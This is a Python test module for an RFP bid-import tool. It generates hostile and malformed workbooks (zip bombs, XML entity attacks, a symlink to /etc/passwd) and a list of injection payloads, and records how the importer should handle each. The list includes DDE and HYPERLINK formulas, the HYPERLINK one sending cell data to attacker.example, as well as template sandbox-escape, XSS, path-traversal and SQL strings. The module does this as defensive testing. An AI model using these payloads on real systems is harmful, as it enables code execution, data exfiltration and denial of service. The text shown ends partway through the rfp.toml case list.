"""The corpus of hostile and broken inputs, each with its expected outcome.

Bid workbooks (classes ``file``, ``content`` and ``text``) are imported with
``rfpflow bids import FILE`` into a workspace issued from the generic profile;
rfp.toml files (class ``toml``) are checked with ``rfpflow validate``. Every case
is generated at test time from the workbook ``rfpflow issue`` wrote (or the
profile's rfp.toml): nothing binary is committed.

Expected outcomes
    refused  exit 2, no traceback, the store unchanged, and for each expectation a
             problem line ``FILE:PLACE: ...fragment...`` (``FILE: ...`` for the
             whole file; PLACE is ``Sheet!Cell``, a ZIP part, or an rfp.toml line).
    accepted exit 0, the bid stored as the check says (a value read the way it was
             typed, inert text kept exactly, the warning the policy promises).

``python -m tests.hostile.corpus`` prints the number of cases per class (the
numbers docs/reliability.md quotes).
"""

from __future__ import annotations

import datetime as dt
import random
from collections import Counter
from collections.abc import Callable, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs

from tests.hostile import xlsx_edit as xe

# ---------------------------------------------------------------------------
# A valid bid for the generic profile (items L1, L2; questions Q1-Q3)
# ---------------------------------------------------------------------------

VALID: dict[str, Any] = {
    "company": {
        "vendor_name": "Acme Hotline Services Ltd.",
        "registration_no": "91350100M000100Y43",
        "country": "China",
        "year_established": 2012,
        "registered_capital": 5_000_000,
        "annual_turnover": 38_500_000,
        "headcount": 420,
        "contact_name": "Li Lei",
        "contact_email": "li.lei@acme.example",
        "contact_phone": "+86 591 1234 5678",
    },
    "certifications": [
        {"name": "ISO 9001:2015", "number": "CN-Q-123", "expires": dt.date(2028, 6, 30)},
        {"name": "ISO 27001", "number": "CN-S-77", "expires": dt.date(2027, 12, 31)},
    ],
    "answers": {
        "Q1": "Yes",
        "Q2": {"answer": "Yes", "comment": "Two data centres in Fuzhou", "evidence": "Annex 3, p. 4"},
        "Q3": "Partly",
    },
    "prices": {"L1": 82_000, "L2": 15_000},
}


@attrs.frozen
class Material:
    """What bid cases are made from: the issued workbook, and it filled in with :data:`VALID`."""

    folder: Path
    template: Path
    clean: Path
    places: dict[str, str]
    parts: dict[str, str]
    rfp: Any

    def at(self, key: str) -> str:
        return self.places[key]


def make_material(workspace: Path, folder: Path) -> Material:
    from rfpflow.definition import load_rfp
    from rfpflow.spreadsheets.samples import fill_bid_workbook
    from rfpflow.testing import make_context, make_host
    from tests.hostile.harness import bid_workbook

    folder.mkdir(parents=True, exist_ok=True)
    template = bid_workbook(workspace)
    clean = fill_bid_workbook(template, folder / "clean.xlsx", VALID)
    rfp = load_rfp(workspace / "rfp.toml", context=make_context(make_host()))
    return Material(folder, template, clean, xe.locate(clean), xe.sheet_parts(clean), rfp)


# ---------------------------------------------------------------------------
# Bid cases
# ---------------------------------------------------------------------------

Build = Callable[[Material, Path], Any]


@attrs.frozen
class Expect:
    """A problem line: ``place`` is ``@key`` (a place in the workbook, see :func:`xlsx_edit.locate`),
    ``@part:Sheet`` (the sheet's ZIP part), a literal place, or None for the whole file."""

    place: str | None
    fragment: str


@attrs.frozen
class BidCase:
    name: str
    klass: str  # file, content, text
    build: Build
    refused: tuple[Expect, ...] = ()
    check: Callable[[dict[str, Any]], Any] | None = None  # on the stored bid (plain JSON), when accepted
    warning: str | None = None  # a fragment of a warning the accepted bid must carry
    suffix: str = ".xlsx"
    about: str = ""

    @property
    def file_name(self) -> str:
        return self.name + self.suffix

    @property
    def accepted(self) -> bool:
        return not self.refused

    def place(self, material: Material, expect: Expect) -> str | None:
        if expect.place is None:
            return None
        if expect.place.startswith("@part:"):
            return material.parts[expect.place[6:]]
        if expect.place.startswith("@"):
            return material.at(expect.place[1:])
        return expect.place


def _cells(values: dict[str, Any]) -> Build:
    """Cells given by :func:`xlsx_edit.locate` keys (``price.L1``) or literal places (``Pricing!E9``)."""
    def build(m: Material, path: Path) -> Path:
        resolved = {(m.at(k) if "!" not in k else k): v for k, v in values.items()}
        return xe.set_cells(m.clean, path, resolved)
    return build


def _bytes(data: bytes | Callable[[Material], bytes]) -> Build:
    def build(m: Material, path: Path) -> None:
        path.write_bytes(data(m) if callable(data) else data)
    return build


def _openpyxl(edit: Callable[[Any, Material], None]) -> Build:
    """Load the clean workbook with openpyxl, edit it, save it (as a vendor's spreadsheet program would)."""
    def build(m: Material, path: Path) -> None:
        import openpyxl

        wb = openpyxl.load_workbook(m.clean)
        edit(wb, m)
        wb.save(path)
    return build


def _part(sheet: str, fn: Callable[[bytes], bytes]) -> Build:
    def build(m: Material, path: Path) -> Path:
        return xe.edit_part(m.clean, path, m.parts.get(sheet, sheet), fn)
    return build


def _shared_strings(fn: Callable[[bytes], bytes]) -> Build:
    """A workbook written by xlsxwriter (shared strings), with its sharedStrings.xml edited."""
    def build(m: Material, path: Path) -> Path:
        from rfpflow.spreadsheets.samples import write_vendor_workbook

        source = write_vendor_workbook(m.folder / f"sst-{path.stem}.xlsx", m.rfp, VALID)
        return xe.edit_part(source, path, "xl/sharedStrings.xml", fn)
    return build


def _fields(bid: dict[str, Any]) -> dict[str, Any]:
    from tests.hostile.harness import plain

    return plain(bid["bid"]["fields"])


def _price(item: str) -> Callable[[dict[str, Any]], Any]:
    def get(bid: dict[str, Any]) -> Any:
        from tests.hostile.harness import plain

        # price lines are stored as rows: [item_id, quantity, unit_price, cell]
        return next(plain(line[2]) for line in bid["bid"]["prices"] if line[0] == item)
    return get


def _expiry(bid: dict[str, Any]) -> Any:
    from tests.hostile.harness import plain

    return plain(bid["bid"]["certifications"])[0]["expires"]


def _equals(get: Callable[[dict[str, Any]], Any], expected: Any) -> Callable[[dict[str, Any]], None]:
    def check(bid: dict[str, Any]) -> None:
        got = get(bid)
        assert got == expected, f"stored {got!r}, expected {expected!r}"
    check.expected = expected  # type: ignore[attr-defined]
    return check


def _vendor_name(expected: str) -> Callable[[dict[str, Any]], None]:
    return _equals(lambda bid: _fields(bid)["vendor_name"], expected)


def _same_prices(bid: dict[str, Any]) -> None:
    assert _price("L1")(bid) == "82000" and _price("L2")(bid) == "15000", bid["bid"]["prices"]


SERIAL_2028_06_30 = (dt.date(2028, 6, 30) - dt.date(1899, 12, 30)).days
_RNG = random.Random(20270104)
_RANDOM_BYTES = bytes(_RNG.randrange(256) for _ in range(65536))


def _truncated(fraction: float | None = None, cut: int = 0) -> Build:
    def build(m: Material, path: Path) -> None:
        data = m.clean.read_bytes()
        path.write_bytes(data[: int(len(data) * fraction)] if fraction is not None else data[:-cut])
    return build


def _symlink(target: str) -> Build:
    def build(m: Material, path: Path) -> None:
        path.symlink_to(target)
    return build


def file_cases() -> list[BidCase]:
    c = BidCase
    dtd = "contains an XML document type declaration"
    bomb = "refused as a possible ZIP bomb"
    damaged = "damaged"
    return [
        c("empty", "file", _bytes(b""), (Expect(None, "is empty (0 bytes)"),)),
        c("one-newline", "file", _bytes(b"\n"), (Expect(None, "is a plain text file"),)),
        c("truncated-half", "file", _truncated(0.5), (Expect(None, damaged),)),
        c("truncated-no-directory", "file", _truncated(cut=22), (Expect(None, damaged),)),
        c("truncated-header-only", "file", _truncated(0.001), (Expect(None, damaged),)),
        c("random-bytes", "file", _bytes(_RANDOM_BYTES), (Expect(None, "is not an Excel workbook"),)),
        c("csv-renamed", "file", _bytes(b"Item ID,Unit price\nL1,82000\nL2,15000\n"),
          (Expect(None, "CSV (comma-separated values) text file renamed .xlsx"),)),
        c("tsv-renamed", "file", _bytes(b"Item ID\tUnit price\nL1\t82000\nL2\t15000\n"),
          (Expect(None, "tab-separated (TSV) text file renamed .xlsx"),)),
        c("html-renamed", "file", _bytes(b"<html><body><table><tr><td>L1</td><td>82000</td></tr></table>"
                                         b"<script>alert(1)</script></body></html>"),
          (Expect(None, "web page (HTML) renamed .xlsx"),)),
        c("mhtml-renamed", "file", _bytes(b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n"),
          (Expect(None, "(MHTML) renamed .xlsx"),)),
        c("excel-2003-xml", "file", _bytes(b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:'
                                           b'office:spreadsheet"></Workbook>'),
          (Expect(None, "Excel 2003 XML spreadsheet"),)),
        c("legacy-xls", "file", _bytes(xe.fake_ole2("Root Entry", "Workbook", "\x05SummaryInformation")),
          (Expect(None, "old-format Excel 97-2003 workbook (.xls)"),)),
        c("encrypted-ooxml", "file", _bytes(xe.fake_ole2("Root Entry", "EncryptionInfo", "EncryptedPackage")),
          (Expect(None, "password-protected (encrypted)"),)),
        c("pdf-renamed", "file", _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
          (Expect(None, "a PDF document"),)),
        c("png-renamed", "file", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(64)), (Expect(None, "a PNG image"),)),
        c("gzip-renamed", "file", _bytes(b"\x1f\x8b\x08\x00" + bytes(64)), (Expect(None, "gzip-compressed"),)),
        c("ods-renamed", "file", _bytes(xe.zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                                   "content.xml": b"<office:document-content/>"})),
          (Expect(None, "OpenDocument spreadsheet (.ods"),)),
        c("docx-renamed", "file", _bytes(xe.zip_of({"[Content_Types].xml": b"<Types/>",
                                                    "word/document.xml": b"<w:document/>"})),
          (Expect(None, "is a Word document (.docx)"),)),
        c("xlsb-renamed", "file", _bytes(xe.zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\0"})),
          (Expect(None, "Excel Binary Workbook (.xlsb)"),)),
        c("zip-holding-the-workbook", "file", _bytes(lambda m: xe.zip_of({"bid/acme.xlsx": m.clean.read_bytes()})),
          (Expect(None, "is a ZIP archive containing bid/acme.xlsx"),)),
        c("no-workbook-part", "file", lambda m, p: xe.rewrite_zip(
            m.clean, p, lambda n, b: None if n == "xl/workbook.xml" else b),
          (Expect(None, "without a workbook part"),)),
        c("symlink-to-etc-passwd", "file", _symlink("/etc/passwd"), (Expect(None, "is a plain text file"),)),
        c("wrong-extension", "file", lambda m, p: p.write_bytes(m.clean.read_bytes()),
          (Expect(None, "no installed plugin reads this kind of file (.xls)"),), suffix=".xls"),
        c("no-extension", "file", lambda m, p: p.write_bytes(m.clean.read_bytes()),
          (Expect(None, "no installed plugin reads this kind of file (no extension)"),), suffix=""),
        c("bad-crc", "file", lambda m, p: xe.corrupt_member(m.clean, p, m.parts["Pricing"]),
          (Expect("@part:Pricing", damaged),)),
        c("malformed-sheet-xml", "file", _part("Pricing", lambda b: b.replace(b"</sheetData>", b"</sheetDat>")),
          (Expect("Pricing", "sheet Pricing is damaged"),)),
        # ZIP bombs (kept small: the limits are checked on the declared sizes, before inflating)
        c("zip-bomb-ratio", "file", lambda m, p: xe.padded_member(m.clean, p, m.parts["Pricing"], 24 * 2**20),
          (Expect("@part:Pricing", bomb),), about="24 MB of sheet XML compressed ~1000:1 into ~25 KB"),
        c("zip-bomb-declared-3gb", "file", lambda m, p: xe.patch_declared_size(m.clean, p, m.parts["Pricing"],
                                                                                3 * 2**30),
          (Expect("@part:Pricing", bomb),), about="a directory declaring a 3 GB sheet"),
        c("zip-bomb-declared-small", "file", lambda m, p: xe.patch_declared_size(
            xe.padded_member(m.clean, m.folder / "padded.xlsx", m.parts["Pricing"], 2 * 2**20), p,
            m.parts["Pricing"], 1000),
          (Expect("@part:Pricing", damaged),), about="a sheet that inflates to 2 MB while declaring 1,000 bytes"),
        c("members-2001", "file", lambda m, p: xe.extra_members(m.clean, p, 2001),
          (Expect(None, "more than the limit of 2000"),)),
        c("sheets-10000", "file", lambda m, p: xe.extra_sheets(m.clean, p, 10_000),
          (Expect(None, "more than the limit of 2000"),)),
        c("sheets-201", "file", lambda m, p: xe.extra_sheets(m.clean, p, 201 - len(m.parts)),
          (Expect(None, "has 201 worksheets, more than the limit of 200"),)),
        c("sheets-201-declared-only", "file", lambda m, p: xe.extra_sheets(m.clean, p, 201 - len(m.parts),
                                                                           with_parts=False),
          (Expect(None, "has 201 sheets, more than the limit of 200"),)),
        # XML entity attacks
        c("billion-laughs-in-sheet", "file", _part("Company", lambda b: xe.with_doctype(b, xe.BILLION_LAUGHS,
                                                                                         "lol9")),
          (Expect("@part:Company", dtd),)),
        c("billion-laughs-in-shared-strings", "file", _shared_strings(
            lambda b: xe.with_doctype(b, xe.BILLION_LAUGHS, "lol9")), (Expect("xl/sharedStrings.xml", dtd),)),
        c("external-entity-in-sheet", "file", _part("Company", lambda b: xe.with_doctype(b, xe.EXTERNAL_ENTITY,
                                                                                          "xxe")),
          (Expect("@part:Company", dtd),)),
        c("external-entity-in-shared-strings", "file", _shared_strings(
            lambda b: xe.with_doctype(b, xe.EXTERNAL_ENTITY, "xxe")), (Expect("xl/sharedStrings.xml", dtd),)),
        c("external-entity-in-workbook", "file", _part("xl/workbook.xml", lambda b: xe.with_doctype(
            b, xe.EXTERNAL_ENTITY)), (Expect("xl/workbook.xml", dtd),)),
        c("external-dtd-in-styles", "file", _part("xl/styles.xml", lambda b: xe.with_doctype(b, xe.EXTERNAL_DTD)),
          (Expect("xl/styles.xml", dtd),)),
        c("parameter-entity-in-content-types", "file", _part("[Content_Types].xml", lambda b: xe.with_doctype(
            b, xe.PARAMETER_ENTITY)), (Expect("[Content_Types].xml", dtd),)),
        c("doctype-after-70kb-comment", "file", _part("Company", lambda b: xe.with_doctype(
            b, "<!--" + "x" * 70_000 + "-->" + xe.EXTERNAL_ENTITY)),
          (Expect("@part:Company", "preamble is longer than"),)),
        c("doctype-in-utf16-sheet", "file", _part("Company", lambda b: xe.with_doctype(
            b.replace(b'encoding="UTF-8"', b'encoding="UTF-16"'), xe.EXTERNAL_ENTITY).decode().encode("utf-16"))
          , (Expect("@part:Company", dtd),)),
        # Huge cells
        c("cell-1000000-chars", "file", _cells({"company.vendor_name": "B" * 1_000_000}),
          (Expect("@company.vendor_name", "is 1,000,000 characters long"),)),
        c("shared-string-1000000-chars", "file", _shared_strings(
            lambda b: b.replace(b"Acme Hotline Services Ltd.", b"B" * 1_000_000)),
          (Expect("Company!B4", "is 1,000,000 characters long"),)),
        c("comment-1000000-chars", "file", _cells({"comment.Q1": "C" * 1_000_000}),
          (Expect("@comment.Q1", "is 1,000,000 characters long"),)),
        c("number-400-digits", "file", _cells({"price.L1": xe.Raw('t="n"', "<v>1" + "0" * 400 + "</v>")}),
          (Expect("@price.L1", "unit price"),), about="a unit price no spreadsheet program can hold"),
        c("number-5000-digits", "file", _cells({"price.L1": xe.Raw('t="n"', "<v>" + "1" * 5000 + "</v>")}),
          (Expect("Pricing", "sheet Pricing is damaged"),)),
        # Accepted, with the documented warnings
        c("xlsm-with-vba-project", "file", lambda m, p: xe.rewrite_zip(
            m.clean, p, add={"xl/vbaProject.bin": xe.OLE2_MAGIC + bytes(504)}),
          check=_same_prices, warning="macro-enabled workbook: macros are ignored, only cell values are read",
          suffix=".xlsm"),
        c("xlsm-macro-content-type", "file", _part("[Content_Types].xml", lambda b: b.replace(
            b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")),
          check=_same_prices, warning="macro-enabled workbook", suffix=".xlsm"),
        c("xlsx-with-excel4-macro-sheet", "file", lambda m, p: xe.rewrite_zip(
            m.clean, p, add={"xl/macrosheets/sheet1.xml": b'<?xml version="1.0"?><xm:macrosheet '
                             b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'}),
          check=_same_prices, warning="macro-enabled workbook"),
        c("external-links", "file", lambda m, p: xe.rewrite_zip(
            m.clean, p, add={"xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink '
                             b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}),
          check=_same_prices, warning="links to other workbooks"),
        c("lying-dimension", "file", _part("Pricing", lambda b: b.replace(
            b'<dimension ref="', b'<dimension ref="A1:XFD1048576" x="')), check=_same_prices),
        c("stray-cell-xfd1048576", "file", _cells({"Pricing!XFD1048576": "stray", "Company!XFD1048576": 1}),
          check=_same_prices),
    ]


def content_cases() -> list[BidCase]:
    c = BidCase
    nan = "is not a number"
    return [
        # every kind of company field with a wrong value
        c("vendor-name-blank", "content", _cells({"company.vendor_name": "   "}),
          (Expect("@company.vendor_name", "vendor name is blank"),)),
        c("vendor-name-zero-width-only", "content", _cells({"company.vendor_name": "\u200b\u200d\ufeff"}),
          (Expect("@company.vendor_name", "vendor name is blank"),)),
        # A wrong check character alone is a typo to confirm, not a refusal (issue 15): screening reviews it.
        c("registration-bad-check-digit", "content", _cells({"company.registration_no": "91350100M000100Y44"}),
          check=_same_prices, warning='"91350100M000100Y44": check character is 4, expected 3'),
        c("registration-wrong-length", "content", _cells({"company.registration_no": "12345"}),
          (Expect("@company.registration_no", "12345"),)),
        c("year-text", "content", _cells({"company.year_established": "abc"}),
          (Expect("@company.year_established", nan),)),
        c("year-future", "content", _cells({"company.year_established": 2999}),
          (Expect("@company.year_established", "is in the future"),)),
        c("year-implausible", "content", _cells({"company.year_established": 1700}),
          (Expect("@company.year_established", "is not a plausible year"),)),
        c("year-fraction", "content", _cells({"company.year_established": 2012.5}),
          (Expect("@company.year_established", "is not a whole number"),)),
        c("capital-negative", "content", _cells({"company.registered_capital": "-5"}),
          (Expect("@company.registered_capital", "is negative"),)),
        c("capital-other-currency", "content", _cells({"company.registered_capital": "$980"}),
          (Expect("@company.registered_capital", "but this RFP asks for amounts in CNY"),)),
        c("turnover-boolean", "content", _cells({"company.annual_turnover": True}),
          (Expect("@company.annual_turnover", "is TRUE, not a number"),)),
        c("turnover-date", "content", _cells({"company.annual_turnover": xe.Raw('t="d"', "<v>2027-01-01</v>")}),
          (Expect("@company.annual_turnover", "is a date"),)),
        c("headcount-negative", "content", _cells({"company.headcount": -1}),
          (Expect("@company.headcount", "is negative"),)),
        c("headcount-text", "content", _cells({"company.headcount": "many"}),
          (Expect("@company.headcount", nan),)),
        c("email-invalid", "content", _cells({"company.contact_email": "not-an-email"}),
          (Expect("@company.contact_email", "is not an e-mail address"),)),
        c("error-value-cell", "content", _cells({"company.headcount": xe.Raw('t="e"', "<v>#DIV/0!</v>")}),
          (Expect("@company.headcount", "#DIV/0!"),)),
        # certificates
        c("expiry-ambiguous", "content", _cells({"cert.1.expires": "03/04/2028"}),
          (Expect("@cert.1.expires", "is ambiguous"),)),
        c("expiry-not-a-date", "content", _cells({"cert.1.expires": "soon"}),
          (Expect("@cert.1.expires", "is not a date"),)),
        c("expiry-impossible", "content", _cells({"cert.1.expires": "2028-02-30"}),
          (Expect("@cert.1.expires", "is not a real calendar date"),)),
        c("expiry-two-digit-year", "content", _cells({"cert.1.expires": "30/6/28"}),
          (Expect("@cert.1.expires", "two-digit year"),)),
        c("expiry-400-digits", "content", _cells({"cert.1.expires": xe.Raw('t="n"', "<v>1" + "0" * 400 + "</v>",
                                                                            keep_style=False)}),
          (Expect("@cert.1.expires", "expiry date"),), about="a number no date can be made of"),
        c("certificate-name-blank", "content", _cells({"cert.1.name": " "}),
          (Expect("@cert.1.name", "certificate name is blank"),)),
        # questionnaire
        c("answer-not-a-choice", "content", _cells({"answer.Q3": "Maybe"}),
          (Expect("@answer.Q3", 'answer "Maybe" to Q3 is not one of the choices'),)),
        c("mandatory-answer-blank", "content", _cells({"answer.Q1": None}),
          (Expect("@answer.Q1", "Q1 is mandatory and has no answer"),)),
        c("answer-without-id", "content", _cells({"question.Q1": None, "answer.Q1": "Yes"}),
          (Expect("@answer.Q1", "answer without a requirement ID"),)),
        c("requirement-twice", "content", _cells({"question.Q3": "Q2"}),
          (Expect("@question.Q3", "requirement Q2 appears twice"),)),
        # pricing
        c("price-text", "content", _cells({"price.L1": "abc"}), (Expect("@price.L1", nan),)),
        c("price-negative", "content", _cells({"price.L1": -5}), (Expect("@price.L1", "is negative"),)),
        c("price-blank", "content", _cells({"price.L1": None}), (Expect("@price.L1", "unit price of L1 is blank"),)),
        c("price-percent", "content", _cells({"price.L1": "15%"}), (Expect("@price.L1", "is a percentage"),)),
        c("price-boolean", "content", _cells({"price.L1": False}), (Expect("@price.L1", "is FALSE"),)),
        c("price-minus-and-parentheses", "content", _cells({"price.L1": "-(1,200)"}),
          (Expect("@price.L1", ""),)),
        c("price-infinite", "content", _cells({"price.L1": xe.Raw('t="n"', "<v>1e400</v>")}),
          (Expect("@price.L1", "unit price"),)),
        c("price-nan", "content", _cells({"price.L1": xe.Raw('t="n"', "<v>NaN</v>")}),
          (Expect("Pricing", "sheet Pricing is damaged"),)),
        c("unknown-item-with-price", "content", _cells({"item.L2": "L9"}),
          (Expect("@item.L2", 'item "L9" is not a line item of this RFP'),
           Expect("Pricing", "line item L2 has no row"))),
        c("item-twice", "content", _cells({"item.L2": "L1"}),
          (Expect("@item.L2", "line item L1 appears twice"),)),
        c("formula-without-cached-value", "content", _cells({"price.L1": xe.F("E5*2")}),
          (Expect("@price.L1", "formula without a calculated value"),)),
        c("formula-without-cached-value-in-name", "content", _cells({"company.vendor_name": xe.F('"Ac"&"me"')}),
          (Expect("@company.vendor_name", "formula without a calculated value"),)),
        c("line-item-below-total", "content", _cells({"item.L2": None, "price.L2": None,
                                                       "Pricing!A9": "L2", "Pricing!E9": 15000}),
          (Expect("Pricing", "line item L2 has no row"),)),
        # missing, renamed and reordered sheets and columns
        c("pricing-sheet-deleted", "content", _openpyxl(lambda wb, m: wb.remove(wb["Pricing"])),
          (Expect(None, "the Pricing sheet is missing"),)),
        c("questionnaire-sheet-deleted", "content", _openpyxl(lambda wb, m: wb.remove(wb["Questionnaire"])),
          (Expect(None, "the Questionnaire sheet is missing"),)),
        c("company-sheet-deleted", "content", _openpyxl(lambda wb, m: wb.remove(wb["Company"])),
          (Expect(None, "the Company sheet is missing"),)),
        c("metadata-sheet-deleted", "content", _openpyxl(lambda wb, m: wb.remove(wb["_rfpflow"])),
          (Expect(None, "(no metadata sheet)"),)),
        c("metadata-other-rfp", "content", _cells({"_rfpflow!B3": "RFP-1999-999"}),
          (Expect("_rfpflow", "is the bid-response workbook of RFP RFP-1999-999"),)),
        c("metadata-older-definition", "content", _cells({"_rfpflow!B4": "0" * 64}),
          (Expect("_rfpflow", "earlier version of the RFP definition"),)),
        c("metadata-newer-format", "content", _cells({"_rfpflow!B2": 99}),
          (Expect("_rfpflow", "made by a newer version of rfpflow"),)),
        c("pricing-sheet-renamed", "content", _openpyxl(lambda wb, m: setattr(wb["Pricing"], "title", "Prices2")),
          (Expect(None, "the Pricing sheet is missing"),)),
        c("price-header-renamed", "content", _cells({"Pricing!E3": "Cost"}),
          (Expect("Pricing", "has no header row naming the columns"),)),
        c("pricing-sheet-alias", "content", _openpyxl(lambda wb, m: setattr(wb["Pricing"], "title", "报价")),
          check=_same_prices),
        c("price-header-alias", "content", _cells({"Pricing!E3": "Rate (CNY)"}), check=_same_prices),
        c("columns-reordered", "content", lambda m, p: _reordered(m, p), check=_same_prices),
        c("header-cells-merged", "content", _openpyxl(lambda wb, m: (
            wb["Pricing"].merge_cells("B3:C3"), wb["Company"].merge_cells("C3:E3"))), check=_same_prices),
        c("price-cell-merged", "content", _openpyxl(lambda wb, m: wb["Pricing"].merge_cells(
            f"{xe.cell_only(m.at('price.L1'))}:{xe.cell_only(m.at('line_total.L1'))}")), check=_same_prices),
        c("hidden-row-with-data", "content", _openpyxl(_hide_price_row), check=_same_prices,
          warning="hidden row"),
        c("rows-below-total", "content", _cells({"Pricing!A8": "All prices exclude VAT", "Pricing!E9": 12345}),
          check=_same_prices, warning="below the total are ignored"),
        c("formula-with-cached-value", "content", _cells({"price.L1": xe.F("40000+42000", 82000)}),
          check=_same_prices),
        c("quantity-changed", "content", _cells({"quantity.L1": 11}), check=_same_prices,
          warning="the RFP's quantity 12 is used"),
        # dates in common formats (certificate expiry 2028-06-30)
        *(c(f"date-{label}", "content", _cells({"cert.1.expires": value}), check=_equals(_expiry, "2028-06-30"))
          for label, value in (("iso", "2028-06-30"), ("slashes", "2028/6/30"), ("dotted-dmy", "30.06.2028"),
                               ("day-month-name", "30 June 2028"), ("month-name-day", "Jun 30, 2028"),
                               ("chinese", "2028年6月30日"), ("serial", SERIAL_2028_06_30),
                               ("eight-digits", "20280630"), ("full-width", "２０２８－０６－３０"))),
        # numbers as people type them (unit price of L1)
        *(c(f"number-{label}", "content", _cells({"price.L1": value}), check=_equals(_price("L1"), expected))
          for label, value, expected in (
              ("thousands", "1,234.50", "1234.50"), ("yuan-sign", "¥1,200", "1200"),
              ("full-width", "１２３", "123"), ("spaces", " 980 ", "980"), ("nbsp", "\u00a0980\u00a0", "980"),
              ("wan", "1.5万", "15000"), ("code-prefix", "CNY 1,200", "1200"), ("yuan-suffix", "1200元", "1200"),
              ("quote-prefix", "'980", "980"), ("float", 1234.5, "1234.5"))),
        c("number-dollar", "content", _cells({"price.L1": "$980"}),
          (Expect("@price.L1", "but this RFP asks for amounts in CNY"),)),
        c("number-comma-decimal", "content", _cells({"price.L1": "1.234,50"}),
          (Expect("@price.L1", "European number format"),)),
        c("number-ambiguous-comma", "content", _cells({"price.L1": "1,5"}),
          (Expect("@price.L1", "is ambiguous"),)),
        c("number-spaces-inside", "content", _cells({"price.L1": "12 34 5"}),
          (Expect("@price.L1", "spaces inside the number"),)),
    ]


def _reordered(m: Material, path: Path) -> Path:
    from rfpflow.spreadsheets.samples import write_vendor_workbook

    return write_vendor_workbook(path, m.rfp, VALID, column_order={
        "Pricing": ["unit_price", "comment", "item_id", "quantity", "description"],
        "Questionnaire": ["answer", "id", "comment", "evidence"],
        "Company": ["value", "field"], "Certifications": ["expires", "name", "number"]})


def _hide_price_row(wb: Any, m: Material) -> None:
    row = int(m.at("price.L1").rsplit("!", 1)[1].lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    wb["Pricing"].row_dimensions[row].hidden = True


# ---------------------------------------------------------------------------
# Text: inert payloads as the vendor name (and in a comment)
# ---------------------------------------------------------------------------

DDE = "=cmd|' /C calc'!A0"
#: Vendor text built to be executed somewhere: (label, text as typed, text as stored).
TEXT_PAYLOADS: tuple[tuple[str, str, str], ...] = (
    ("formula-equals", "=1+1", "=1+1"),
    ("formula-plus", "+1+1", "+1+1"),
    ("formula-minus", "-1+1", "-1+1"),
    ("formula-at", "@SUM(1+1)", "@SUM(1+1)"),
    ("formula-tab", "\t=1+1", "=1+1"),
    ("formula-cr", "\r=1+1", "=1+1"),
    ("formula-dde", DDE, DDE),
    ("formula-dde-plus", "+cmd|' /C notepad'!A0", "+cmd|' /C notepad'!A0"),
    ("formula-hyperlink", '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
     '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'),
    ("formula-full-width", "＝1+1", "＝1+1"),
    ("template-expression", "{{ 7*7 }}", "{{ 7*7 }}"),
    ("template-loop", "{% for x in range(10**9) %}x{% endfor %}", "{% for x in range(10**9) %}x{% endfor %}"),
    ("template-sandbox-escape", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("html-script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("svg-onload", '<svg onload="alert(1)"><circle r="9"/></svg>', '<svg onload="alert(1)"><circle r="9"/></svg>'),
    ("img-onerror", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("markdown-link", "[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ("path-traversal", "../../etc/passwd", "../../etc/passwd"),
    ("path-traversal-windows", "..\\..\\Windows\\win.ini", "..\\..\\Windows\\win.ini"),
    ("device-name", "CON", "CON"),
    ("rtl-override", "Acme\u202etxt.exe", "Acmetxt.exe"),
    ("zero-width", "A\u200bc\u200cm\u200de\u2060\ufeff Ltd", "Acme Ltd"),
    ("long-32767", "L" * 32767, "L" * 32767),
    ("chinese-full-width", "华信客服（上海）有限公司　ＡＢＣ１２３", "华信客服（上海）有限公司　ＡＢＣ１２３"),
    ("newlines", "Acme\nLine two\r\nLine three", "Acme\nLine two\r\nLine three"),
    ("sql-quote", "Robert'); DROP TABLE records;--", "Robert'); DROP TABLE records;--"),
)


def text_cases() -> list[BidCase]:
    return [
        BidCase(f"text-{label}", "text", _cells({"company.vendor_name": typed, "comment.Q3": typed}),
                check=_vendor_name(stored), about=repr(typed[:60]))
        for label, typed, stored in TEXT_PAYLOADS
    ]


def bid_cases() -> list[BidCase]:
    cases = [*file_cases(), *content_cases(), *text_cases()]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


# ---------------------------------------------------------------------------
# rfp.toml cases
# ---------------------------------------------------------------------------


@attrs.frozen
class TomlExpect:
    """A problem line ``rfp.toml:LINE: FIELD: ...fragment...``; LINE is the first line of the
    mutated file containing ``marker`` (None: no line can be known), FIELD may be None."""

    marker: str | None
    field: str | None
    fragment: str


@attrs.frozen
class TomlCase:
    name: str
    make: Callable[[str], str | bytes]
    expect: tuple[TomlExpect, ...]
    about: str = ""
    klass: str = "toml"


def _replace(old: str, new: str, count: int = 1) -> Callable[[str], str]:
    def make(text: str) -> str:
        at = text.find("\n" + old)  # a key at the start of a line, not a mention in a comment
        if at >= 0:
            return text[: at + 1] + new + text[at + 1 + len(old):]
        if old not in text:
            raise AssertionError(f"the generic profile no longer has {old!r}")
        return text.replace(old, new, count)
    return make


def _append(extra: str) -> Callable[[str], str]:
    return lambda text: text.rstrip("\n") + "\n" + extra


def _chain(*makes: Callable[[str], str]) -> Callable[[str], str]:
    def make(text: str) -> str:
        for fn in makes:
            text = fn(text)
        return text
    return make


def _wrong(name: str, old: str, new: str, field: str, fragment: str, marker: str | None = None) -> TomlCase:
    return TomlCase(name, _replace(old, new), (TomlExpect(marker or new.split("#")[0].strip(), field, fragment),))


def toml_cases() -> list[TomlCase]:
    t, e, w = TomlCase, TomlExpect, _wrong
    text_ = "must be text"
